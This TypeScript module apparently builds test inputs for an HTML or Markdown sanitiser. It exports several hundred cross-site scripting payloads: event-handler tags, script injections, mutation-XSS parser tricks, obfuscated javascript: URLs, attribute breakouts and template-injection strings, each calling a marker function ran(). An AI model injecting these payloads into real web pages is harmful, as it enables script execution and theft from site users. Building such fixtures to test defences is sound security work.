/** Inputs with which an attacker tries to call `ran()`. Every payload is unique. */
const tags = [
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'iframe src=x',
  ],
  ...[
    'select autofocus',
    'textarea autofocus',
    'object data=x',
    'embed src=x',
    'marquee',
    'a href=#',
    'form',
    'math',
  ],
  ...[
    'link rel=stylesheet href=x',
    'template',
    'dialog open',
    'image href=x',
    'source',
    'button',
    'style',
    'x tabindex=1',
  ],
];
const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onbegin',
  'onclick',
];
const quotings = ['=ran()', '="ran()"', "='ran()'", '=`ran()`', '\u000c=\u000cran()', '=ran&lpar;&rpar;'];

const handlers = tags.flatMap((tag, row) =>
  events.map((event, column) => {
    const gap = column % 2 === 0 ? ' ' : '/';
    return `<${tag}${gap}${event}${quotings[(row + column) % quotings.length]}>`;
  }),
);

const scripts = [
  ...[
    '<script>ran()</script>',
    '<ScRiPt>ran()</sCrIpT>',
    '<script/x>ran()</script>',
    '<script\n>ran()</script>',
  ],
  ...[
    '</script><script>ran()</script>',
    '</title><script>ran()</script>',
    '</textarea><script>ran()</script>',
  ],
  ...['</style><script>ran()</script>', '<svg><script>ran()</script>', '<svg><script href="data:,ran()"/>'],
  ...[
    '<script src="data:,ran()"></script>',
    '<script src=//example.com/x.js></script>',
    '<!--<script>ran()</script>-->',
  ],
  ...['<scr<script>ipt>ran()</scr</script>ipt>', '<script>ran()', '<<script>ran()//<</script>', "';ran();//"],
  ...[
    '";ran();//',
    '\\";ran();//',
    '-->\n<script>ran()</script>',
    ']]><script>ran()</script>',
    '<!--<script>',
    '*/ran()/*',
  ],
  ...[
    '\u2028ran()\u2028',
    '<iframe srcdoc="<script>parent.ran()</script>">',
    '<base href="javascript:ran()//">',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:ran()">',
    '<object data="javascript:ran()">',
    '<% ran() %>',
  ],
  ...[
    '<style>@import "javascript:ran()";</style>',
    '<div style="x:expression(ran())">',
    '<isindex action=javascript:ran()>',
  ],
];

const mutating = [
  '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<svg><foreignObject><p><style><img src="</style><img src=x onerror=ran()//">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran()></style>',
  '<select><template><img src=x onerror=ran()></template></select>',
  '<table><td><svg><desc><img src=x onerror=ran()>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text>x</text></a>',
  '<svg><set attributeName=href to=javascript:ran()>',
  '<xmp><p title="</xmp><img src=x onerror=ran()>">',
].flatMap((payload) =>
  ['', '> ', '- ', '**', '`', '| ', '\\', '[^1]: ', '\u200b'].map((before) => before + payload),
);

/** Attacks on permitted elements, and on parsers that disagree about where elements and attributes end. */
const permitted = [
  '<a href="javascript:ran()">x</a>',
  '<a href="&#x6A;avascript&colon;ran()">x</a>',
  '<a href="/" href="javascript:ran()">x</a>',
  '<img src="/media/no.webp" alt="&quot; onerror=ran() x=&quot;">',
  '<img src="/media/no.webp" alt="><svg onload=ran()>">',
  '<abbr title="</abbr><img src=x onerror=ran()>">x</abbr>',
  '<a title="`><img src=x onerror=ran()>`" href=x>x</a>',
  '<details open ontoggle="ran()"><summary onclick="ran()">x</summary></details>',
  '<details open\nontoggle\n=\nran()>x</details>',
  '<table><tr><td><table><a href="x"><img src=x onerror=ran()></a></table></td></tr></table>',
  '<table><style><a title="</style><img src=x onerror=ran()>">x</a></table>',
  '<div><!--</div><img src=x onerror=ran()>--><kbd>x</kbd></div>',
  '<pre><code></pre><img src=x onerror=ran()></code>',
  '<p><div><p></div><a><div><a href="javascript:ran()">x</a></div></a></p>',
  '<figure data-embed="youtube" onclick=ran()><a href="javascript:ran()//youtu.be/x">x</a></figure>',
  '<h2 id="comments" onclick=ran()>x</h2>',
  '<a id="location" name=\'"><img src=x onerror=ran()>\' onfocus=ran() tabindex=0>x</a>',
  '## x {#"><img/src=x/onerror=ran()>}\n\n## x {#a`onclick=ran()}\n\n[x](<#"onclick=ran()>)',
  '<div class="full-size"><a class="full-size" href="javascript:ran()">x</a></div>',
  '<kbd/onclick=ran()>x</kbd>',
  '<li><ul><dl><dt></li><img/src=x/onerror=ran()></dt></dl></ul>',
  '<td background="javascript:ran()" style="background:url(javascript:ran())">x</td>',
];

const schemes = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\tjavascript:',
    'java\tscript:',
    'java\u000bscript:',
    '\u0001javascript:',
  ],
  ...[
    '\u001fjavascript:',
    'java\u200bscript:',
    '\ufeffjavascript:',
    'javascript\t:',
    '&#106;avascript:',
    '&#x6A;avascript:',
  ],
  ...[
    'javascript&colon;',
    'java&Tab;script:',
    'java&NewLine;script:',
    'javascript&#58;',
    'java%0ascript:',
    'vbscript:',
  ],
  ...[
    'data:text/html,<script>parent.ran()</script>',
    'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
    'blob:',
    'livescript:',
  ],
  ...[
    'data:image/svg+xml,<svg onload=ran()>',
    'feed:javascript:',
    'view-source:javascript:',
    'jar:javascript:',
    '\\javascript:',
  ],
];
const tails = ['ran()', '//%0aran()', '//youtu.be/dQw4w9WgXcQ%0aran()', '"onclick="ran()', 'ran()//.webp'];
const addresses = schemes.flatMap((scheme) => tails.map((tail) => scheme + tail));

const closings = [
  '"',
  "'",
  '`',
  '&quot;',
  '&#34;',
  '&#x27;',
  '\\"',
  '\\u0022',
  '%22',
  '"\u00a0',
  '")',
  '">',
  "'>",
  '-->',
  '\u2019"',
];
const breakouts = closings.flatMap((closing) =>
  [
    ' onmouseover=ran() x=',
    ' autofocus onfocus=ran() tabindex=1 ',
    '><img src=x onerror=ran()>',
    '/onclick=ran()//',
  ].map((after) => closing + after),
);

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: syntax of other template languages
const templates = [
  ...[
    '{{constructor.constructor("ran()")()}}',
    '{{ran()}}',
    '${ran()}',
    '#{ran()}',
    '*{ran()}',
    '@{ran()}',
    '{%raw%}{{ran()}}',
  ],
  ...[
    '<%= ran() %>',
    '{{{ran()}}}',
    '[[${ran()}]]',
    '{{$on.constructor("ran()")()}}',
    '<x v-html="ran()">',
    '<x :is="ran()">',
  ],
  ...[
    '<x ng-init="ran()">',
    '<x x-data x-init="ran()">',
    '<div data-embed="youtube" onclick=ran()>',
    '{"__html":"<img src=x onerror=ran()>"}',
  ],
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: syntax of other template languages

/** All payloads by category. */
export const xssPayloads: Record<string, readonly string[]> = {
  handlers,
  scripts,
  mutating,
  permitted,
  addresses,
  breakouts,
  templates,
};
